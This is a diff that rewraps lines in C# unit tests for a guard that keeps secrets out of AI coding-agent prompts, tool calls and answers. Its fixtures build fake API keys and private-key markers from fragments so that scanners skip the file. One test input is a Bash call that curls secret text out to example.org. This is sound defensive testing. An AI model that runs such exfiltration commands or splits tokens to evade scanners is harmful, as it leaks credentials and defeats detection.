@@ -3,7 +3,10 @@ using Hooks.Build.Engine.Tests.Fakes;
 
 namespace Hooks.Build.Engine.Tests.Guarding;
 
-/// <summary>What is secret leaves neither with a prompt nor with what a tool is given, nor with the answer. The tokens are put together here, so that scanners of others do not take this file for a leak.</summary>
+/// <summary>
+/// What is secret leaves neither with a prompt nor with what a tool is given, nor with the answer. The tokens are put together here, so that scanners of others
+/// do not take this file for a leak.
+/// </summary>
 [TestClass]
 public sealed class SecretGuardTests : IDisposable
 {
@@ -12,7 +15,8 @@ public sealed class SecretGuardTests : IDisposable
 
     private static readonly string[] Secrets =
     [
-        Token, "github_" + "pat_" + Random[..22] + "_" + Random[..59], "gl" + "pat-" + Random[..20], "AI" + "za" + Random[..35], "sk-" + "ant-api03-" + Random[..91] + "AA", "password = '" + Random[40..60] + "'",
+        Token, "github_" + "pat_" + Random[..22] + "_" + Random[..59], "gl" + "pat-" + Random[..20], "AI" + "za" + Random[..35],
+        "sk-" + "ant-api03-" + Random[..91] + "AA", "password = '" + Random[40..60] + "'",
         "-----BEGIN " + "RSA PRIVATE KEY-----\n" + Random + "\n-----END " + "RSA PRIVATE KEY-----",
     ];
 
@@ -23,7 +27,8 @@ public sealed class SecretGuardTests : IDisposable
     [DataRow("Write", "src/")]
     public async Task A_secret_that_is_the_name_of_a_file_is_not_in_the_answer(string tool, string folder)
     {
-        var answer = await _repository.AnswerAsync(Tool(tool == "Read" ? AgentTool.Read : AgentTool.Edit, tool, new { file_path = In(folder + Token), content = "x" }, folder + Token));
+        var answer = await _repository.AnswerAsync(Tool(
+            tool == "Read" ? AgentTool.Read : AgentTool.Edit, tool, new { file_path = In(folder + Token), content = "x" }, folder + Token));
 
         answer.ShouldContain("fingerprint");
         answer.ShouldNotContain(Token[..20]);
@@ -40,18 +45,34 @@ public sealed class SecretGuardTests : IDisposable
                     new() { Stage = HookStages.PromptSubmit, Prompt = text },
                     Tool(AgentTool.Edit, "Write", new { file_path = In("src/a.cs"), content = text }, "src/a.cs"),
                     Tool(AgentTool.Edit, "Edit", new { file_path = In("src/a.cs"), old_string = "b", new_string = text }, "src/a.cs"),
-                    Tool(AgentTool.Edit, "MultiEdit", new { edits = new[] { new { old_string = "a", new_string = "b" }, new { old_string = "b", new_string = text } } }, "src/a.cs"),
+                    Tool(
+                        AgentTool.Edit,
+                        "MultiEdit",
+                        new { edits = new[] { new { old_string = "a", new_string = "b" }, new { old_string = "b", new_string = text } } },
+                        "src/a.cs"),
                     Tool(AgentTool.Shell, "Bash", new { command = "curl -d '" + text + "' example.org" }),
                     Tool(AgentTool.Mcp, "mcp__x__send", new { deep = new object[] { 1, new { body = text } } }),
-                    Tool(AgentTool.Edit, "apply_patch", new { command = "*** Begin Patch\n*** Update File: src/a.cs\n-old\n+" + text.Replace("\n", "\n+", StringComparison.Ordinal) + "\n*** End Patch" }),
-                    new() { Stage = HookStages.BeforeTool, Tool = AgentTool.Other, Raw = JsonSerializer.Serialize(new { toolName = "x", toolArgs = JsonSerializer.Serialize(new { a = text }) }) },
+                    Tool(
+                        AgentTool.Edit,
+                        "apply_patch",
+                        new { command = "*** Begin Patch\n*** Update File: src/a.cs\n-old\n+" + text.Replace(
+                            "\n", "\n+", StringComparison.Ordinal) + "\n*** End Patch" }),
+                    new()
+                    {
+                        Stage = HookStages.BeforeTool,
+                        Tool = AgentTool.Other,
+                        Raw = JsonSerializer.Serialize(new { toolName = "x", toolArgs = JsonSerializer.Serialize(new { a = text }) }),
+                    },
                 ])
             {
                 var answer = await _repository.AnswerAsync(agent);
                 answer.ShouldContain("fingerprint", customMessage: agent.Raw + agent.Prompt);
                 for (var at = 0; at + 5 <= secret.Length; at++)
                 {
-                    if (secret[at..(at + 5)] is var part && !part.AsSpan().ContainsAny("-= \n") && !part.Contains("PRIVATE"[..5], StringComparison.Ordinal) && part.AsSpan().IndexOfAnyInRange('0', '9') >= 0)
+                    if (secret[at..(at + 5)] is var part
+                        && !part.AsSpan().ContainsAny("-= \n")
+                        && !part.Contains("PRIVATE"[..5], StringComparison.Ordinal)
+                        && part.AsSpan().IndexOfAnyInRange('0', '9') >= 0)
                     {
                         answer.ShouldNotContain(part, Case.Sensitive);
                     }
@@ -65,12 +86,16 @@ public sealed class SecretGuardTests : IDisposable
     {
         var list = "*** Begin Patch\n*** Add File: a\0b\n- token: " + Token + "\n*** End Patch\n";
         (await _repository.AnswerAsync(Tool(AgentTool.Edit, "Write", new { content = list }, "src/a.md"))).ShouldContain("fingerprint");
-        (await _repository.AnswerAsync(Tool(AgentTool.Edit, "apply_patch", new { command = "*** Begin Patch\n*** Update File: src/a.cs\n-" + Token + "\n+gone\n*** End Patch" }))).ShouldBeEmpty();
+        (await _repository.AnswerAsync(Tool(
+            AgentTool.Edit,
+            "apply_patch",
+            new { command = "*** Begin Patch\n*** Update File: src/a.cs\n-" + Token + "\n+gone\n*** End Patch" }))).ShouldBeEmpty();
     }
 
     [TestMethod]
     public async Task Of_a_prompt_that_nobody_can_hold_back_it_is_not_said_that_it_was() =>
-        (await _repository.AnswerAsync(new AgentEvent { Agent = "copilot", Stage = HookStages.PromptSubmit, Prompt = "use\n" + Token })).ShouldContain("). It was sent all the same, as this agent lets nobody hold a prompt back: count the secret as given away");
+        (await _repository.AnswerAsync(new AgentEvent { Agent = "copilot", Stage = HookStages.PromptSubmit, Prompt = "use\n" + Token }))
+            .ShouldContain("). It was sent all the same, as this agent lets nobody hold a prompt back: count the secret as given away");
 
     [TestMethod]
     public async Task The_answer_says_what_it_is_and_where_and_who_may_accept_it()
@@ -109,7 +134,8 @@ public sealed class SecretGuardTests : IDisposable
         (await _repository.AnswerAsync(write)).ShouldBeEmpty();
         (await _repository.AnswerAsync(Tool(AgentTool.Edit, "Write", new { content = Token }, "README.md"))).ShouldNotBeEmpty();
         _repository.Hooks = [Make.Guard("Guard", "agent:secrets --allow-list none.txt")];
-        (await _repository.RunAsync(write)).Hooks[0].ShouldSatisfyAllConditions(hook => hook.Outcome.ShouldBe(HookOutcome.Crashed), hook => hook.Reason.ShouldContain("none.txt"));
+        (await _repository.RunAsync(write)).Hooks[0]
+            .ShouldSatisfyAllConditions(hook => hook.Outcome.ShouldBe(HookOutcome.Crashed), hook => hook.Reason.ShouldContain("none.txt"));
     }
 
     public void Dispose() => _repository.Dispose();
